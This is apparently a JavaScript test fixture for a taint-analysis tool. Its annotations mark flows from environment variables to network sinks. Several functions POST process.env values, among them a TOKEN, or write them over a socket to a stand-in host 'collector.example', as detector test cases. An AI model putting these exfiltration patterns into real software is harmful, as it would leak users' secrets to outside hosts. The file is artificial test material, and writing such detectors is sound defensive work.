// Objects without a class: what is called on one that came from elsewhere is what some object has under that name.
// --- path: queue.js ---
function item(text) {
  let packed = null;
  function packedText() {
    if (packed === null) {
      packed = text;
    }
    return packed;
  }
  function packedSize() {
    return text.length;
  }
  return { packedText, packedSize };
}

export function queue() {
  const items = [];
  return {
    put: (text) => { items.push(item(text)); },
    packedAll: () => items.map((one) => one.packedText()),
    packedSizes: () => items.map((one) => one.packedSize()),
  };
}
// --- path: send.js ---
import { queue } from './queue.js';

const pending = queue();
pending.put(process.env.TOKEN); //~ source(ENVIRONMENT) f1

export async function flush() {
  await fetch('https://collector.example/all', { method: 'POST', body: pending.packedAll() }); //~ sink(egress.http) f1, finding(ambiguous) f1
  await fetch('https://collector.example/sizes', { method: 'POST', body: pending.packedSizes() }); //~ ok
}

// By the name of a function of the file; the object itself is handed around where nobody sees it.
function report(text) {
  fetch('https://collector.example/named', { method: 'POST', body: text }); //~ sink(egress.http) f4, finding(ambiguous) f4
}
function remember(text) {
  report.last = text;
}
export const reporters = { reportText: report, rememberText: remember };
export function named(given) {
  given.reportText(process.env.NAMED); //~ source(ENVIRONMENT) f4
  given.rememberText(process.env.REMEMBERED); //~ ok
}

// Two objects have it: which one is meant, only the value says.
const one = { chosenText: () => process.env.ONE };
const other = { chosenText: () => 'other' };
export function chosen(given) {
  return fetch('https://collector.example/chosen', { method: 'POST', body: given.chosenText() }); //~ ok
}
chosen(other);

// A loop assigns the client after its first value said nothing.
import { connect } from 'net';
export function retried() {
  let socket = null;
  while (socket === null || socket.destroyed) {
    socket = connect(443, 'collector.example');
  }
  socket.write(process.env.RETRIED); //~ source(ENVIRONMENT) f2, sink(egress.socket) f2, finding(traced) f2
}
export function counted() {
  let socket = null;
  for (let at = 0; at < 3; at++) {
    socket = { write: (text) => text.length };
  }
  socket.write(process.env.COUNTED); //~ ok
}

// What a method of an object gives is an object with members of its own.
const factory = { iterator() { return { next: () => process.env.NEXT }; } }; //~ source(ENVIRONMENT) f3
export function stepped() {
  const steps = factory.iterator();
  return fetch('https://collector.example/next', { method: 'POST', body: steps.next() }); //~ sink(egress.http) f3, finding(traced) f3
}

// Two objects have it, and the one that is meant comes out of a function that is a value itself.
const ways = {
  http: (agent) => ({ deliverText: (text) => fetch('https://collector.example/way', { method: 'POST', body: text }) }), //~ sink(egress.http) f5, finding(traced) f5
  none: (agent) => ({ deliverText: (text) => text.length }),
};
class Agent {
  choose(way) { this.way = way(this); }
  report(text) { this.way.deliverText(text); }
}
const agent = new Agent();
agent.choose(ways.http);
agent.report(process.env.DELIVERED); //~ source(ENVIRONMENT) f5

// Two objects have it, and they are handed over in a list.
class Host {
  constructor(plugins) { plugins.forEach((plugin) => plugin.attachTo(this)); }
  keep(text) { this.text = text; }
  send() { fetch('https://collector.example/plugins', { method: 'POST', body: this.text }); } //~ MISSING:sink(egress.http) f6, MISSING:finding(traced) f6
}
const telling = { attachTo: (host) => { host.keep(process.env.PLUGIN); } }; //~ MISSING:source(ENVIRONMENT) f6
const silent = { attachTo: (host) => { host.keep('x'); } };
new Host([telling, silent]).send();
